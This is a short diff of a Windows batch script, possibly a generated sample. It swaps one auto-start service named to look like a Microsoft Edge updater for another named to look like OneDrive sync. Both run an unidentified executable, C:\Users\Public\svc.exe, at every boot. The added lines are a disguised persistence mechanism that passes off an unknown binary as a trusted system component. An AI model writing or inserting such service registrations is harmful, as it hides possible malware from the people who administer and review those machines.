@@ -1,3 +1,3 @@
-REM setup 2589 v3
-sc create MicrosoftEdgeUpdateCore binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
-sc start MicrosoftEdgeUpdateCore
+REM config 7188 v3
+sc create OneDriveSync binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
+sc start OneDriveSync
